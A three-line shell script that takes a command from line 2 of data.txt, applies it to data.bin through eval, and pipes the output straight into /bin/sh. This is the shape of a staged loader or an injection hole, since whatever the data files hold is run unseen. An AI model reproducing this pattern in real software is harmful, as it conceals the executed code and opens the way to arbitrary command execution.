#!/bin/sh
mode=$(sed -n 2p data.txt)
eval "$mode data.bin" | /bin/sh
